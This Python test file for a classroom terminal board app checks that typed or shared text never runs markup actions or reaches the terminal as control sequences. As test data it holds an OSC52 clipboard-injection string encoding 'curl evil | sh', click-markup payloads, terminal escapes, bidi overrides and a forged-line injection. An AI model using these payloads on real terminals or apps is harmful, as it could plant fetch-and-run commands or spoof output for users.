"""Issue 7, section 2: text is only ever text.

What people type or put in the shared folder (task text, location labels, initials, binder pages,
theme files) is data: on the real board (Pilot) and in `board --plain` it is never parsed as markup,
never runs an app action, and never reaches the terminal as control characters or as a forged line.
"""

from __future__ import annotations

import json

from rich.text import Text
from textual.widgets import Markdown, OptionList
from textual.widgets._markdown import MarkdownBlock

from paratui.app.page import PageScreen, markdown_literal, warnings_markdown
from paratui.app.panes import StudentsPane, TasksPane
from paratui.app.picker import PickerScreen
from paratui.model.text import clean
from paratui.store.room import Room
from paratui.store.themes import load_themes
from tests.helpers import make_app, run_cli, settle

OSC52 = "x \x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07 y"  # "curl evil | sh" to the clipboard
RLO = "\u202e"


def add_task(room_dir, text: str, by: str = "AL") -> None:
    Room(room_dir).record("task.add", by, {"text": text, "for": None, "due": None})


def edit_classroom(room_dir, old: str, new: str) -> None:
    path = room_dir / "classroom.toml"
    source = path.read_text(encoding="utf-8")
    assert old in source
    path.write_text(source.replace(old, new, 1), encoding="utf-8")


async def opened(pilot) -> None:
    """Let a picker or page that a key opened appear."""
    for _ in range(3):
        await pilot.pause()


def screen_text(widget) -> str:
    """What the widget sends to the terminal, line by line (segments' text, styles aside)."""
    return "\n".join("".join(seg.text for seg in widget.render_line(y)) for y in range(widget.size.height))


def prompts(app) -> list[str]:
    """The open picker's options as shown: each prompt must be plain Text, not a markup string."""
    options = app.screen.query_one(OptionList)
    shown = []
    for i in range(options.option_count):
        prompt = options.get_option_at_index(i).prompt
        assert isinstance(prompt, Text), f"option {i} is {type(prompt).__name__}, parsed as markup"
        shown.append(prompt.plain)
    return shown


async def click_on(pilot, words: str) -> None:
    """Click the open picker where `words` are drawn (where a [@click] span would be)."""
    options = pilot.app.screen.query_one(OptionList)
    for y in range(options.size.height):
        line = "".join(seg.text for seg in options.render_line(y))
        if words in line:
            x = line.index(words) + 1
            await pilot.click(OptionList, offset=(x + options.gutter.left, y + options.gutter.top))
            return
    raise AssertionError(f"{words!r} is not on the picker: {screen_text(options)!r}")


# -- markup in data runs nothing ------------------------------------------------------------------

async def test_a_click_on_a_task_written_as_click_markup_runs_no_action(room_dir, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)  # where app.screenshot('.bashrc', '.') would write
    add_task(room_dir, "[@click=app.screenshot('.bashrc','.')]Copies[/]")
    app = make_app(room_dir, watch=False, as_staff="MR")
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.press("d")
        await opened(pilot)
        assert isinstance(app.screen, PickerScreen)
        await click_on(pilot, "Copies")
        await settle(pilot)
        assert not (tmp_path / ".bashrc").exists()  # no screenshot written where the text chose
        assert app.is_running
        await pilot.press("d")  # the task was picked as done, like any click on it
        await opened(pilot)
        assert not isinstance(app.screen, PickerScreen)
    assert not list(tmp_path.glob("*.svg")) and not (tmp_path / ".bashrc").exists()


async def test_a_click_on_a_task_written_as_quit_markup_leaves_the_board_running(room_dir):
    add_task(room_dir, "[@click=app.quit]Copies[/]")
    app = make_app(room_dir, watch=False, as_staff="MR")
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.press("d")
        await opened(pilot)
        await click_on(pilot, "Copies")
        await settle(pilot)
        assert app.is_running and app.return_code is None
        # the click picked the option, as any click would: the task is done, the board goes on
        assert not isinstance(app.screen, PickerScreen)
        await pilot.press("d")  # the board still answers keys
        await opened(pilot)
        assert app.is_running


async def test_an_unbalanced_close_tag_in_a_task_shows_literally(room_dir):
    add_task(room_dir, "close [/] tag")
    app = make_app(room_dir, watch=False, as_staff="MR")
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.pause()
        assert "close [/] tag" in str(app.query_one(TasksPane).content)
        await pilot.press("d")
        await opened(pilot)
        assert any(p.endswith("close [/] tag") for p in prompts(app))
        assert "close [/] tag" in screen_text(app.screen.query_one(OptionList))
        await pilot.press("1")
        await settle(pilot)
        assert app.is_running and not isinstance(app.screen, PickerScreen)


async def test_location_labels_with_brackets_show_literally_in_the_picker(room_dir):
    edit_classroom(room_dir, 'label = "Bathroom"', 'label = "Bathroom [/]"')
    edit_classroom(room_dir, 'label = "Nurse"', 'label = "Nurse [boys]"')
    app = make_app(room_dir, watch=False, as_staff="JT")
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.press("m", "1")
        await opened(pilot)
        shown = prompts(app)
        assert "b  Bathroom [/]  (10 min)" in shown and "n  Nurse [boys]  (20 min)" in shown
        drawn = screen_text(app.screen.query_one(OptionList))
        assert "Bathroom [/]" in drawn and "Nurse [boys]" in drawn
        await pilot.press("b")
        await settle(pilot)
        assert app.is_running


# -- no terminal control, no bidi reordering on the board ---------------------------------------

async def test_an_osc52_task_never_reaches_the_terminal(room_dir):
    add_task(room_dir, OSC52)
    app = make_app(room_dir, watch=False, as_staff="MR")
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.pause()
        pane = app.query_one(TasksPane)
        plain = str(pane.content)
        assert "\x1b" not in plain and "\x07" not in plain
        assert "x ␛]52;c;Y3VybCBldmlsIHwgc2gK␇ y" in plain  # shown escaped, not hidden
        assert "\x1b" not in screen_text(pane)
        await pilot.press("d")
        await opened(pilot)
        assert not any("\x1b" in p for p in prompts(app))
        assert "\x1b" not in screen_text(app.screen.query_one(OptionList))


async def test_a_right_to_left_override_in_initials_is_dropped(room_dir):
    edit_classroom(room_dir, 'initials = "E.M."', f'initials = "E.{RLO}M."')
    app = make_app(room_dir, watch=False, as_staff="MR")
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.pause()
        students = str(app.query_one(StudentsPane).content)
        assert RLO not in students and "E.M." in students
        await pilot.press("m")
        await opened(pilot)
        assert any(p.startswith("1  E.M.") for p in prompts(app))


async def test_binder_pages_show_no_control_characters_and_links_open_nothing(room_dir, monkeypatch):
    page = room_dir / "binder" / "monday.md"
    page.write_text(page.read_text(encoding="utf-8") + f"\n\nNote {OSC52}\n\n[quit](app.quit)\n",
                    encoding="utf-8")
    app = make_app(room_dir, watch=False, as_staff="MR")
    urls = []
    monkeypatch.setattr(app, "open_url", lambda url, **kw: urls.append(url))
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.pause()
        binder = screen_text(app.query_one("#binder-md"))
        assert "\x1b" not in binder and "␛]52;c;Y3VybCBldmlsIHwgc2gK␇" in binder
        app.push_screen(PageScreen(page.read_text(encoding="utf-8"), page_id="page-monday"))
        await opened(pilot)
        markdown = app.screen.query_one(Markdown)
        assert "\x1b" not in markdown.source
        link = next(b for b in app.screen.query(MarkdownBlock) if "quit" in str(b.content))
        await link.action_link("app.quit")
        await settle(pilot)
        assert urls == [] and app.is_running
        assert any(n.message == "app.quit" for n in app._notifications)  # the address, shown as text


def test_warnings_are_literal_markdown():
    for warning in ("schedule.toml:3: `x` [a](b) **c** <d> # e", "- [/] [@click=app.quit]x", "1. ~~s~~ | t \\"):
        source = markdown_literal(warning)
        assert "`" not in source.replace("\\`", "")
        assert "[" not in source.replace("\\[", "")
    page = warnings_markdown(["a\nFAKE", "b"])
    assert "\n- a FAKE\n- b\n" in page


# -- theme files --------------------------------------------------------------------------------

async def test_a_theme_with_markup_and_control_characters_is_reported_by_file_and_field(room_dir):
    (room_dir / "themes").mkdir()
    (room_dir / "themes" / "evil.toml").write_text(
        'name = "[@click=app.quit]x[/]"\ndark = true\nprimary = "#123456"\n', encoding="utf-8")
    (room_dir / "themes" / "worse.toml").write_text(
        'dark = true\nprimary = "#123456"\n[variables]\n"\\u001b]52;c;eA==\\u0007" = "#000000"\n', encoding="utf-8")
    (room_dir / "themes" / "sneaky.toml").write_text(
        'dark = true\nprimary = "#123456\\n"\n', encoding="utf-8")
    specs, problems = load_themes([room_dir / "themes"])
    assert specs == []
    assert len(problems) == 3
    assert any(p.startswith("themes/evil.toml: field 'name'") for p in problems)
    assert any(p.startswith("themes/worse.toml: field 'variables.") for p in problems)
    assert any(p.startswith("themes/sneaky.toml: field 'primary'") for p in problems)
    assert not any(c in p for p in problems for c in "\x1b\x07\n")
    app = make_app(room_dir, watch=False, as_staff="MR", theme_name="evil")
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.pause()
        assert app.theme == "paratui-dark"
        await pilot.press("w")
        await opened(pilot)
        source = app.screen.query_one(Markdown).source
        assert "themes/evil.toml" in source and "\x1b" not in source
        assert app.is_running


# -- board --plain --------------------------------------------------------------------------------

def test_board_plain_passes_no_control_characters_and_forges_no_line(room_dir):
    add_task(room_dir, OSC52)
    add_task(room_dir, "title \x1b]0;pwned\x07 clear \x1b[2J done", by="MR")
    add_task(room_dir, "Copies\nFAKE  [abc123] Give meds again (open)", by="JT")
    edit_classroom(room_dir, 'initials = "E.M."', f'initials = "E.{RLO}M."')
    out = run_cli("board", "--plain", data=room_dir, check=True).stdout
    assert "\x1b" not in out and "\x07" not in out and RLO not in out
    assert not any(line.startswith("FAKE") for line in out.splitlines())
    assert "Copies FAKE  [abc123] Give meds again (open)" in out
    assert "␛]52;c;Y3VybCBldmlsIHwgc2gK␇" in out and "␛[2J" in out
    assert "E.M." in out
    # --json keeps the text exactly as written: JSON escaping already makes it inert
    data = json.loads(run_cli("board", "--json", data=room_dir, check=True).stdout)
    assert OSC52 in [t["text"] for t in data["tasks"]]


def test_board_plain_says_alone_for_a_student_out_alone(room_dir):
    kb = "S02"
    Room(room_dir).record("move", "JT", {"student": kb, "to": "bathroom", "with": []})
    out = run_cli("board", "--plain", data=room_dir, check=True).stdout
    line = next(x for x in out.splitlines() if x.startswith("  K.B.: Bathroom"))
    assert line.endswith(", alone") or ", alone " in line
    assert "with alone" not in out


def test_clean_is_what_plain_uses():
    assert clean("a\x1b[2Jb\nc\u202e") == "a␛[2Jb c"


def test_clean_keeps_plain_text_and_shows_every_ascii_control():
    """Plain ASCII comes back as it was (the fast path), every ASCII control as its symbol, line
    breaks and tabs as one space; the limit cuts with an ellipsis either way."""
    from paratui.model.text import clean

    for code in range(128):
        ch = chr(code)
        if ch in "\t\n\x0b\x0c\r":
            want = " "
        elif code < 0x20:
            want = chr(0x2400 + code)
        elif code == 0x7F:
            want = "\u2421"
        else:
            want = ch
        assert clean(f"a{ch}b") == f"a{want}b", repr(ch)
    assert clean("Ms. R [bold]x[/]") == "Ms. R [bold]x[/]"
    assert clean("x" * 20, limit=5) == "xxxx…" and clean("x\x1b" * 10, limit=5) == "x␛x␛…"
    assert clean("a\nb", one_line=False) == "a\nb" and clean("a\r\nb", one_line=False) == "a\nb"
